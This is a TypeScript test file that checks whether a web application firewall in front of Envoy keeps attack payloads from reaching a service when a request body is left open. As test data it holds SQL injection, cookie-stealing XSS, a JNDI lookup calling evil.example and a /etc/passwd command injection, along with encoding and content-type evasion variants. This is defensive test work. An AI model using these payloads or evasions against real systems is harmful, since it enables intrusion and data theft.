// Through the real Envoy: a client sends an attack and leaves its body open. A service may act on what it has received by then, so what it
// has received is checked.

import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { HeaderPairs } from '../../demo/stack/arrivals.ts';
import { crsFolder, crsMissing } from '../support/crs-folder.ts';
import { Front, type Protocol, protocols } from '../support/exchange-front.ts';
import { frame, lengthField } from '../support/protobuf.ts';
import { until } from '../support/until.ts';

const form = 'application/x-www-form-urlencoded';
const json = 'application/json';
const sql = "1' union select password from users-- -";
const attacks: Readonly<Record<string, string>> = {
  SQL: sql,
  script: '<script>alert(document.cookie)</script>',
  lookup: '\x24{jndi:ldap://evil.example/a}',
  command: ';cat /etc/passwd',
};
/** The same with a quote that only a JSON parser sees. */
const escaped = JSON.stringify({ q: sql }).replace("'", '\\u0027');
const part = (text: string, more = ''): string =>
  `--b\r\nContent-Disposition: form-data; name="q"${more}\r\n\r\n${text}`;

interface Case {
  readonly type: string;
  readonly body: Buffer;
  readonly coding?: string;
}

const one = (type: string, body: string | Buffer, coding?: string): Case => ({
  type,
  body: Buffer.from(body as string),
  ...(coding !== undefined && { coding }),
});

const cases: Readonly<Record<string, Case>> = {
  ...Object.fromEntries(
    Object.entries(attacks).map(([name, text]) => [
      `${name} in JSON called a form`,
      one(form, JSON.stringify({ q: text })),
    ]),
  ),
  'XML called a form': one(form, `<a>${sql}</a>`),
  'multipart called a form': one(form, part(sql)),
  'a value of a form without end': one(form, `q=${encodeURIComponent(sql)}`),
  'a value that is nothing but a comparison': one(form, `q=${encodeURIComponent("1' or '1'='1")}`),
  'a name of a form without end': one(form, encodeURIComponent(sql)),
  'a form without its last bytes of gzip': one(form, gzipSync(`q=${encodeURIComponent(sql)}&`).subarray(0, -8), 'gzip'),
  'a key of JSON': one(json, `{"${sql}"`),
  'an open string of JSON': one(json, `{"q":"${sql}`),
  'JSON in UTF-16': one(`${json}; charset=utf-16le`, Buffer.from(escaped, 'utf16le')),
  'an attribute of XML': one('text/xml', `<a b="${sql}`),
  'text divided by elements': one('text/xml', "<a>1' uni<b/>on sel<b/>ect password from users-- -</a>"),
  'a file name of a part without end of its headers': one(
    'multipart/form-data; boundary=b',
    part('', `; filename="${attacks.lookup}"`).slice(0, -2),
  ),
  'text that ends with a word': one('text/plain', '; drop table users'),
  'bytes that end with a comparison': one('application/octet-stream', "' or true"),
  'an open part': one('multipart/form-data; boundary=b', part(sql)),
  'a message of gRPC without end': one('application/grpc', frame(lengthField(1, sql)).subarray(0, -2)),
  'a document of GraphQL': one('application/graphql', `{ a(b: "${escaped.slice(6)} `),
  ...Object.fromEntries(
    [
      ...['', 'text/plain', 'application/octet-stream', 'text/event-stream', 'multipart/x-mixed-replace'],
      ...['application/grpc', 'application/grpc-web-text'],
    ].map((type) => [`escaped JSON called "${type}"`, one(type, escaped)]),
  ),
};

let count = 0;

/** Sends the body, asserts that nothing of it arrives while it is open, ends it, and asserts that it is stopped. */
async function leaveOpen(
  front: Front,
  { type, body, coding }: Case,
  how: { protocol: Protocol; trailers: boolean; streams: boolean },
) {
  count += 1;
  const id = `open-${count}`;
  const bytesThere = (): number => front.upstream.arrivals.find(id)?.bodyBytes ?? 0;
  const end = Promise.withResolvers<void>();
  const headers: [string, string][] = [['x-exchange', id]];
  if (type !== '') headers.push(['content-type', type]);
  if (coding !== undefined) headers.push(['content-encoding', coding]);
  if (how.trailers) headers.push(['trailer', 'x-sum']);
  async function* pieces(): AsyncGenerator<Uint8Array> {
    yield body;
    await end.promise;
  }
  let isAnswered = false;
  const exchange = front
    .exchange({ method: 'POST', headers: headers satisfies HeaderPairs, body: pieces() }, { protocol: how.protocol })
    .finally(() => {
      isAnswered = true;
    });
  const isHeadThere = (): boolean => front.upstream.arrivals.find(id) !== undefined;
  if (how.streams) {
    await until('the head was let go, or the exchange stopped', () => isAnswered || isHeadThere());
    await front.shortHoldPasses();
  } else await front.exchange({});
  const there = bytesThere();
  end.resolve();
  const { answer } = await exchange;
  return { there, isStopped: answer.status >= 400 || answer.end === 'cut' || bytesThere() < body.length };
}

async function leaveAllOpen(
  front: Front,
  how: { protocol: Protocol; trailers: boolean; streams: boolean },
): Promise<void> {
  const results = await Promise.all(
    Object.entries(cases).map(async ([name, each]) => ({ name, ...(await leaveOpen(front, each, how)) })),
  );
  expect(results.filter(({ there, isStopped }) => there > 0 || !isStopped)).toStrictEqual([]);
}

/** Held as briefly as interactive exchanges, so that a test need not wait for the usual time. */
const shortHold = ['--hold-time', '100'];

for (const mode of ['streamed', 'streamed-wait', 'full-duplex', 'buffered', 'buffered-partial'] as const) {
  describe(`a body that is left open, ${mode}`, () => {
    let front: Front;
    beforeAll(async () => {
      front = await Front.start({ mode, weir: { args: shortHold } });
    });
    afterAll(() => front.stop());

    for (const protocol of protocols) {
      for (const trailers of [true, false]) {
        const title = `gives the service nothing of an attack (${protocol}, ${trailers ? 'trailers' : 'no trailers'} announced)`;
        it(title, () => leaveAllOpen(front, { protocol, trailers, streams: !mode.startsWith('buffered') }));
      }
    }
  });
}

for (const mode of ['streamed', 'streamed-wait', 'full-duplex'] as const) {
  describe.skipIf(crsMissing)(`a body that is left open, under the CRS, ${mode}`, () => {
    let front: Front;
    beforeAll(async () => {
      front = await Front.start({ mode, weir: { rules: [crsFolder], args: shortHold } });
    });
    afterAll(() => front.stop());

    /** Kinds of bodies with a wrong type, or none: a rule then matches, depending on how much of the body there is (920640). */
    const kinds: Readonly<Record<string, (text: string) => Case>> = {
      'JSON called a form': (text) => one(form, JSON.stringify({ q: text })),
      'XML called a form': (text) => one(form, `<a>${text.replaceAll('<', '&lt;')}</a>`),
      'multipart called a form': (text) => one(form, part(text)),
      'text without a type': (text) => one('', text),
      'JSON without a type': (text) => one('', JSON.stringify({ q: text })),
    };
    for (const [kind, caseOf] of Object.entries(kinds)) {
      it(`gives the service nothing of an attack in ${kind}`, async () => {
        const all = Object.entries(attacks).flatMap(([name, text]) =>
          protocols.flatMap((protocol) =>
            [true, false].map(async (trailers) => {
              const how = { protocol, trailers, streams: true };
              return { name, protocol, trailers, ...(await leaveOpen(front, caseOf(text), how)) };
            }),
          ),
        );
        const results = await Promise.all(all);
        expect(results.filter(({ there, isStopped }) => there > 0 || !isStopped)).toStrictEqual([]);
      });
    }
  });
}
